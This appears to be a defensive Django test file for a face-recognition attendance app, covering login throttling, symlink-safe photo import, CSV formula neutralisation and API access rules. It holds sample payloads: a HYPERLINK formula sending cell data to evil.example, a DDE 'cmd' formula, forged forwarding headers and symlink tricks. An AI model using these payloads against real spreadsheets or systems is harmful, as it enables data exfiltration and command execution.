"""Who gets in and what they can take away: login limits (site and admin, behind a load
balancer), an import that neither follows links nor merges people by name, CSV files a
spreadsheet does not run, and API answers that say who may read what."""

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import RequestFactory, override_settings
from django.urls import reverse
from django.utils import timezone

from attendance_site.ratelimit import client_address
from recognition.enrolment import add_enrolment_photo
from recognition.models import Capture, DetectedFace, FacePhoto
from students.csv_files import inert_cell
from students.export import student_export_zip
from students.models import AttendanceRecord, Student
from tests.factories import make_course, make_student, make_user
from tests.web.school import (
    device_token,
    school,  # noqa: F401 - a fixture
)

pytestmark = pytest.mark.django_db

REPO_ROOT = Path(__file__).resolve().parent.parent


# ---- logins ----


def login(client, username, password, address, url="/login/", **headers):
    return client.post(url, {"username": username, "password": password}, REMOTE_ADDR=address, **headers)


@override_settings(LOGIN_RATE_LIMIT=3)
def test_a_full_width_spelling_of_a_user_name_counts_against_the_same_login(client):
    make_user("teacher2", role="Teacher")
    for n in range(3):
        login(client, "teacher2", "wrong", f"198.51.100.{n}")
    # The form normalises "ｔeacher2" (full-width t) to "teacher2" before it authenticates.
    response = login(client, "\uff54eacher2", "pw-teacher2", "198.51.100.50")
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


@override_settings(LOGIN_RATE_LIMIT=3)
def test_the_admin_login_is_limited_like_the_sites_and_then_does_not_check_the_password(client):
    make_user("boss", is_staff=True, is_superuser=True)
    for n in range(3):
        assert login(client, "boss", "wrong", f"198.51.100.{n}", url="/admin/login/").status_code == 200
    response = login(client, "boss", "pw-boss", "198.51.100.50", url="/admin/login/")
    assert response.status_code == 429
    assert "Too many login attempts" in response.content.decode()
    assert "_auth_user_id" not in client.session


@override_settings(LOGIN_RATE_LIMIT=3)
def test_the_admin_and_the_site_login_share_the_per_address_count(client):
    for n in range(2):
        login(client, f"guess{n}", "x", "203.0.113.9", url="/admin/login/")
    login(client, "guess2", "x", "203.0.113.9")
    assert login(client, "guess3", "x", "203.0.113.9", url="/admin/login/").status_code == 429


@override_settings(LOGIN_RATE_LIMIT=3, TRUSTED_PROXY_HOPS=1)
def test_behind_one_trusted_load_balancer_each_client_has_its_own_address_count(client):
    answers = [
        login(client, f"guess{n}", "x", "10.0.0.1", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in range(6)
    ]
    assert answers == [200] * 6


@override_settings(LOGIN_RATE_LIMIT=3, TRUSTED_PROXY_HOPS=1)
def test_a_client_cannot_escape_the_address_count_by_forging_the_start_of_the_header(client):
    answers = [
        login(client, f"guess{n}", "x", "10.0.0.1", HTTP_X_FORWARDED_FOR=f"192.0.2.{n}, 203.0.113.7").status_code
        for n in range(4)
    ]
    assert answers == [200, 200, 200, 429]


@pytest.mark.parametrize(
    "hops, forwarded_for, expected",
    [
        (0, "203.0.113.7", "10.0.0.1"),  # no proxy trusted: the header is the client's say-so
        (1, "203.0.113.7", "203.0.113.7"),
        (1, "192.0.2.66, 203.0.113.7", "203.0.113.7"),
        (2, "192.0.2.66, 203.0.113.7, 10.0.0.2", "203.0.113.7"),
        (1, " 2001:db8::1 ", "2001:db8::1"),
        (2, "203.0.113.7", "10.0.0.1"),  # shorter than the trusted hops: not through them all
        (1, "", "10.0.0.1"),
        (1, "192.0.2.66, not-an-address", "10.0.0.1"),
        (1, "192.0.2.66,", "10.0.0.1"),
        (1, "203.0.113.7:4711", "10.0.0.1"),
    ],
)
def test_the_client_address_is_read_through_the_trusted_hops_only(settings, hops, forwarded_for, expected):
    settings.TRUSTED_PROXY_HOPS = hops
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded_for)
    assert client_address(request) == expected


def test_a_negative_number_of_proxy_hops_is_refused_at_start():
    env = {**os.environ, "TRUSTED_PROXY_HOPS": "-1"}
    result = subprocess.run(
        [sys.executable, "-c", "import attendance_site.settings"],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode != 0 and "TRUSTED_PROXY_HOPS" in result.stderr


# ---- import_students ----


@pytest.fixture
def portraits(faces_dataset):
    """Three different real portraits' bytes."""
    folder = faces_dataset / "identities" / "Tony_Blair"
    return [path.read_bytes() for path in sorted(folder.iterdir())[:3]]


def student_folder(root, name, *photos):
    folder = root / name
    folder.mkdir(parents=True)
    for n, content in enumerate(photos):
        (folder / f"photo{n}.jpg").write_bytes(content)
    return folder


def import_students(root, **options):
    call_command("import_students", str(root), consent="signed forms", **options)


def test_a_link_to_another_students_stored_photo_is_skipped_and_reported(tmp_path, portraits, capsys):
    ada = make_student("S1", "Ada Lovelace")
    photo, _ = add_enrolment_photo(ada, portraits[0], source=FacePhoto.ADMIN)
    evil = student_folder(tmp_path / "import", "Evil_Student", portraits[1])
    (evil / "ada.jpg").symlink_to(photo.image.path)

    import_students(tmp_path / "import")

    evil_student = Student.objects.get(full_name="Evil Student")
    export = zipfile.ZipFile(io.BytesIO(student_export_zip(evil_student)))
    exported_photos = [export.read(name) for name in export.namelist() if name.startswith("enrolment_photos/")]
    assert exported_photos == [portraits[1]]
    assert f"Skipped {evil / 'ada.jpg'}: a symbolic link" in capsys.readouterr().err


def test_a_linked_student_folder_is_not_imported_even_from_outside_the_import_folder(tmp_path, portraits, capsys):
    outside = student_folder(tmp_path / "elsewhere", "Outsider", portraits[0])
    (tmp_path / "import").mkdir()
    (tmp_path / "import" / "Outsider").symlink_to(outside, target_is_directory=True)

    import_students(tmp_path / "import")

    assert not Student.objects.exists() and not FacePhoto.objects.exists()
    assert f"Skipped {tmp_path / 'import' / 'Outsider'}: a symbolic link" in capsys.readouterr().err


def test_a_copy_of_a_photo_enrolled_for_another_student_is_not_enrolled_again(tmp_path, portraits, capsys):
    ada = make_student("S1", "Ada Lovelace")
    add_enrolment_photo(ada, portraits[0], source=FacePhoto.ADMIN)
    evil = student_folder(tmp_path / "import", "Evil_Student", portraits[0], portraits[1])

    import_students(tmp_path / "import")

    evil_student = Student.objects.get(full_name="Evil Student")
    assert evil_student.face_photos.count() == 1 and ada.face_photos.count() == 1
    assert f"Skipped {evil / 'photo0.jpg'}: the same photo is enrolled for another student" in capsys.readouterr().err


def test_a_folder_named_like_a_student_of_another_course_is_a_clash_and_skipped(tmp_path, portraits, capsys):
    ada = make_student("S1", "Ada Lovelace")
    make_course("ART1", students=[ada])
    add_enrolment_photo(ada, portraits[0], source=FacePhoto.ADMIN)
    folder = student_folder(tmp_path / "import", "Ada_Lovelace", portraits[1])

    import_students(tmp_path / "import", course="MATH1")

    assert ada.face_photos.count() == 1
    assert Student.objects.count() == 1
    assert list(ada.courses.values_list("code", flat=True)) == ["ART1"]
    out, err = capsys.readouterr()
    assert f"Skipped {folder}: a student named Ada Lovelace already exists (S1)" in err
    assert "0 new student(s) and 0 new photo(s)" in out and "1 folder(s) skipped" in out


def test_a_folder_with_no_photo_named_like_an_existing_student_is_a_clash(tmp_path, capsys):
    ada = make_student("S1", "Ada Lovelace")
    (tmp_path / "import" / "Ada_Lovelace").mkdir(parents=True)

    import_students(tmp_path / "import", course="MATH1")

    assert not ada.courses.exists()
    assert "a student named Ada Lovelace already exists (S1)" in capsys.readouterr().err


def test_a_student_number_in_the_folder_name_attaches_the_photos_to_that_student(tmp_path, portraits):
    ada = make_student("S00042", "Ada Lovelace")
    namesake = make_student("S00043", "Ada Lovelace")
    student_folder(tmp_path / "import", "S00042_Ada_Lovelace", portraits[0])

    import_students(tmp_path / "import", course="MATH1")
    import_students(tmp_path / "import", course="MATH1")

    assert Student.objects.count() == 2
    assert ada.face_photos.count() == 1 and namesake.face_photos.count() == 0
    assert list(ada.courses.values_list("code", flat=True)) == ["MATH1"]


def test_a_new_student_number_in_the_folder_name_creates_the_student_with_it(tmp_path, portraits):
    make_student("S1", "Ada Lovelace")
    student_folder(tmp_path / "import", "S00042_Ada_Lovelace", portraits[0])

    import_students(tmp_path / "import")

    assert Student.objects.get(student_number="S00042").full_name == "Ada Lovelace"


def test_a_folder_with_one_students_number_and_another_students_name_is_a_clash(tmp_path, portraits, capsys):
    grace = make_student("S00042", "Grace Hopper")
    folder = student_folder(tmp_path / "import", "S00042_Ada_Lovelace", portraits[0])

    import_students(tmp_path / "import")

    assert Student.objects.count() == 1 and not grace.face_photos.exists()
    assert f"Skipped {folder}: student S00042 is Grace Hopper, not Ada Lovelace" in capsys.readouterr().err


def test_a_roster_gives_each_folder_its_student_number(tmp_path, portraits):
    ada = make_student("S1", "Ada Lovelace")
    namesake = make_student("S9", "Ada Lovelace")
    student_folder(tmp_path / "import", "Ada_Lovelace", portraits[0])
    student_folder(tmp_path / "import", "newcomer", portraits[1])
    roster = tmp_path / "roster.csv"
    roster.write_text("folder,student_number,full_name\nAda_Lovelace,S1,\nnewcomer,S77,Grace Hopper\n")

    import_students(tmp_path / "import", roster=str(roster))

    assert ada.face_photos.count() == 1 and namesake.face_photos.count() == 0
    grace = Student.objects.get(student_number="S77")
    assert grace.full_name == "Grace Hopper" and grace.face_photos.count() == 1


def test_a_roster_without_its_columns_is_refused(tmp_path):
    from django.core.management.base import CommandError

    (tmp_path / "import").mkdir()
    roster = tmp_path / "roster.csv"
    roster.write_text("name,number\nAda_Lovelace,S1\n")
    with pytest.raises(CommandError, match="folder,student_number"):
        import_students(tmp_path / "import", roster=str(roster))


def test_a_roster_with_only_its_header_imports_by_folder_name(tmp_path, portraits):
    student_folder(tmp_path / "import", "Ada_Lovelace", portraits[0])
    roster = tmp_path / "roster.csv"
    roster.write_text("folder,student_number\n")

    import_students(tmp_path / "import", roster=str(roster))

    assert Student.objects.get().full_name == "Ada Lovelace"


def test_a_folder_number_too_long_for_a_student_number_is_a_clash(tmp_path, portraits, capsys):
    student_folder(tmp_path / "import", "S" + "1" * 40 + "_Ada_Lovelace", portraits[0])

    import_students(tmp_path / "import")

    assert not Student.objects.exists()
    assert "longer than a student number can be (32 characters)" in capsys.readouterr().err


def test_running_an_import_again_is_recognised_by_its_photos_and_adds_nothing(tmp_path, portraits, capsys):
    folder = student_folder(tmp_path / "import", "Ada_Lovelace", portraits[0], portraits[1])
    (folder / "notes.jpg").write_text("not a photo")
    import_students(tmp_path / "import", course="MATH1")
    capsys.readouterr()

    import_students(tmp_path / "import", course="MATH1")

    out, err = capsys.readouterr()
    assert "0 new student(s) and 0 new photo(s)" in out and "0 folder(s) skipped" in out
    assert "already exists" not in err
    assert Student.objects.get().face_photos.count() == 2


def test_a_new_photo_in_a_folder_named_like_an_existing_student_is_a_clash(tmp_path, portraits, capsys):
    folder = student_folder(tmp_path / "import", "Ada_Lovelace", portraits[0])
    import_students(tmp_path / "import")
    (folder / "photo9.jpg").write_bytes(portraits[2])

    import_students(tmp_path / "import")

    assert Student.objects.get().face_photos.count() == 1
    assert "a student named Ada Lovelace already exists" in capsys.readouterr().err


def test_the_shared_dataset_imports_with_consent_as_30_students_and_189_photos(faces_dataset):
    call_command("import_students", str(faces_dataset / "identities"), course="FACES", consent="signed forms")
    assert Student.objects.count() == 30 and FacePhoto.objects.count() == 189
    assert not Student.objects.filter(consent_recorded_at__isnull=True).exists()


# ---- CSV files a spreadsheet opens ----


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_begins_like_a_formula_is_made_text(start):
    assert inert_cell(f"{start}1+2") == f"'{start}1+2"


def test_plain_cells_and_numbers_are_left_alone():
    assert [inert_cell(v) for v in ["Ada Lovelace", "S1", 87.5, None]] == ["Ada Lovelace", "S1", 87.5, None]


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A3,"click")'


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_course_csv_writes_a_formula_name_as_text(client, school):
    Student.objects.filter(pk=school.bob.pk).update(full_name=EVIL_NAME, student_number="+S2")
    client.force_login(school.teacher)
    rows = csv_rows(client.get(reverse("course_csv", args=[school.course.pk])))
    assert ["'+S2", "'" + EVIL_NAME] in [row[:2] for row in rows]


def test_the_admins_attendance_csv_writes_a_formula_name_as_text(client, school):
    Student.objects.filter(pk=school.bob.pk).update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    record = AttendanceRecord.objects.create(
        session=school.session, student=school.bob, status="present", source="manual"
    )
    client.force_login(school.admin)
    response = client.post(
        reverse("admin:students_attendancerecord_changelist"), {"action": "export_csv", "_selected_action": [record.pk]}
    )
    (header, row) = csv_rows(response)
    assert row[header.index("student")] == "'@SUM(1+1)*cmd|' /C calc'!A0"


# ---- the API: schema, tokens, captures ----


def as_device(token):
    return {"HTTP_AUTHORIZATION": f"Token {token}"}


def test_the_schema_needs_a_login_like_its_docs_page(client, school):
    _, token = device_token(course=school.course)
    assert client.get("/api/schema/").status_code == 401
    assert client.get("/api/schema/", **as_device(token)).status_code == 403
    assert client.get("/api/docs/").status_code == 302
    client.force_login(school.ada_user)
    assert client.get("/api/schema/").status_code == 200 and client.get("/api/docs/").status_code == 200


def test_a_wrong_or_revoked_token_is_answered_401_with_the_scheme_to_use(client, school):
    device, token = device_token(course=school.course)
    wrong = client.get("/api/courses/", **as_device("rollcall_not-a-token"))
    assert (wrong.status_code, wrong["WWW-Authenticate"]) == (401, "Token")
    device.revoked_at = timezone.now()
    device.save()
    revoked = client.get("/api/courses/", **as_device(token))
    assert (revoked.status_code, revoked["WWW-Authenticate"]) == (401, "Token")
    assert "revoked" in revoked.json()["detail"]


def test_anonymous_callers_are_401_and_known_callers_without_the_right_403(client, school):
    anonymous = client.get("/api/courses/")
    assert (anonymous.status_code, anonymous["WWW-Authenticate"]) == (401, "Token")
    _, token = device_token(course=school.course)
    refused = client.get(f"/api/sessions/{school.session.pk}/attendance/", **as_device(token))
    assert refused.status_code == 403 and "WWW-Authenticate" not in refused


def test_a_logged_in_teacher_is_not_refused_for_a_token_header_it_does_not_send(client, school):
    client.force_login(school.teacher)
    assert client.get("/api/courses/").status_code == 200


def capture_with_a_recognised_face(session, student, device=None):
    capture = Capture.objects.create(
        session=session,
        image="captures/x.jpg",
        taken_at=timezone.now(),
        status=Capture.DONE,
        device=device,
        face_count=1,
    )
    DetectedFace.objects.create(capture=capture, x1=1, y1=1, x2=40, y2=40, score=0.99, student=student, distance=0.3)
    return capture


def test_a_device_reads_only_the_captures_it_sent(client, school):
    camera, camera_token = device_token(room="R12")
    _, other_token = device_token(name="Second camera", room="R12")
    sent = capture_with_a_recognised_face(school.session, school.ada, device=camera)
    teachers = capture_with_a_recognised_face(school.session, school.bob)

    listed = client.get(f"/api/sessions/{school.session.pk}/captures/", **as_device(camera_token)).json()
    assert [item["id"] for item in listed] == [sent.pk]
    assert client.get(f"/api/captures/{sent.pk}/", **as_device(camera_token)).status_code == 200
    assert client.get(f"/api/captures/{teachers.pk}/", **as_device(camera_token)).status_code == 404
    assert client.get(f"/api/sessions/{school.session.pk}/captures/", **as_device(other_token)).json() == []
    assert client.get(f"/api/captures/{sent.pk}/", **as_device(other_token)).status_code == 404

    client.force_login(school.teacher)
    listed = client.get(f"/api/sessions/{school.session.pk}/captures/").json()
    assert sorted(item["id"] for item in listed) == sorted([sent.pk, teachers.pk])
